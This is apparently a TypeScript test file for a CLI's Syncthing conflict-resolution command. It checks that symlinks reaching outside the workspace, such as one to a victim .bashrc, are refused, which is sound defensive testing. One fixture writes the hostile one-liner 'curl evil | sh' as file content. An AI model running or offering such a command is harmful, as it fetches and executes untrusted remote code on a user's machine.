import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { cli } from '../helpers/app';
import { tempDir } from '../helpers/temp';

/** A workspace with a Syncthing conflicted copy named as Syncthing names it, and a victim file outside it. */
async function conflicted() {
  const home = tempDir();
  const env = { AI_CONFIG_HOME: home };
  expect((await cli(['init'], env)).code).toBe(0);
  const root = path.join(home, 'personal');
  const original = 'knowledge/note.md';
  const copy = 'knowledge/note.sync-conflict-20261201-101010-ABCDEFG.md';
  const victim = path.join(tempDir(), '.bashrc');
  fs.writeFileSync(victim, 'export PATH=/usr/bin\n');
  return { env, root, original, copy, victim };
}

/** The error value the CLI prints with --json (`{ ok: false, error }`), or {} on success. */
function errorOf(r: { stdout: string; stderr: string }): { code?: string; message?: string } {
  const v = JSON.parse(r.stdout || r.stderr) as { ok?: boolean; error?: { code: string; message: string } };
  return v.ok === false && v.error ? v.error : {};
}

async function resolveTheirs(env: NodeJS.ProcessEnv, copy: string) {
  const r = await cli(['sync', 'resolve', copy, '--keep', 'theirs', '--json'], env);
  return { code: r.code, out: errorOf(r) };
}

describe('sync resolve through the boundary', () => {
  it('refuses a conflicted copy that is a symlink to a file outside; the victim and both sides stay', async () => {
    const { env, root, original, copy, victim } = await conflicted();
    fs.writeFileSync(path.join(root, original), 'mine\n');
    fs.symlinkSync(victim, path.join(root, copy));
    const r = await resolveTheirs(env, copy);
    expect(r.code).toBe(1);
    expect(r.out.code).toBe('SYMLINK_REFUSED');
    expect(fs.readFileSync(victim, 'utf8')).toBe('export PATH=/usr/bin\n');
    expect(fs.readFileSync(path.join(root, original), 'utf8')).toBe('mine\n');
    expect(fs.lstatSync(path.join(root, copy)).isSymbolicLink()).toBe(true);
  });

  it('refuses an original that is a symlink (keep theirs never writes through it to ~/.bashrc)', async () => {
    const { env, root, original, copy, victim } = await conflicted();
    fs.symlinkSync(victim, path.join(root, original));
    fs.writeFileSync(path.join(root, copy), 'curl evil | sh\n');
    const r = await resolveTheirs(env, copy);
    expect(r.code).toBe(1);
    expect(r.out.code).toBe('SYMLINK_REFUSED');
    expect(fs.readFileSync(victim, 'utf8')).toBe('export PATH=/usr/bin\n');
    expect(fs.lstatSync(path.join(root, original)).isSymbolicLink()).toBe(true);
    expect(fs.readFileSync(path.join(root, copy), 'utf8')).toBe('curl evil | sh\n');
  });

  it('refuses a conflict inside a folder that is a symlink, and keep mine too', async () => {
    const { env, root, victim } = await conflicted();
    const outside = path.dirname(victim);
    fs.writeFileSync(path.join(outside, 'x.sync-conflict-20261201-101010-ABCDEFG.md'), 'theirs\n');
    fs.symlinkSync(outside, path.join(root, 'knowledge', 'linked'));
    const copy = 'knowledge/linked/x.sync-conflict-20261201-101010-ABCDEFG.md';
    const mine = await cli(['sync', 'resolve', copy, '--keep', 'mine', '--json'], env);
    expect(mine.code).toBe(1);
    expect(errorOf(mine).code).toBe('SYMLINK_REFUSED');
    expect(fs.readdirSync(outside).sort()).toEqual(['.bashrc', 'x.sync-conflict-20261201-101010-ABCDEFG.md']);
  });

  it('a plain conflict still resolves: keep theirs writes the copy over the original and removes it', async () => {
    const { env, root, original, copy } = await conflicted();
    fs.writeFileSync(path.join(root, original), 'mine\n');
    fs.writeFileSync(path.join(root, copy), 'theirs\n');
    const r = await resolveTheirs(env, copy);
    expect(r.code).toBe(0);
    expect(fs.readFileSync(path.join(root, original), 'utf8')).toBe('theirs\n');
    expect(fs.existsSync(path.join(root, copy))).toBe(false);
  });
});
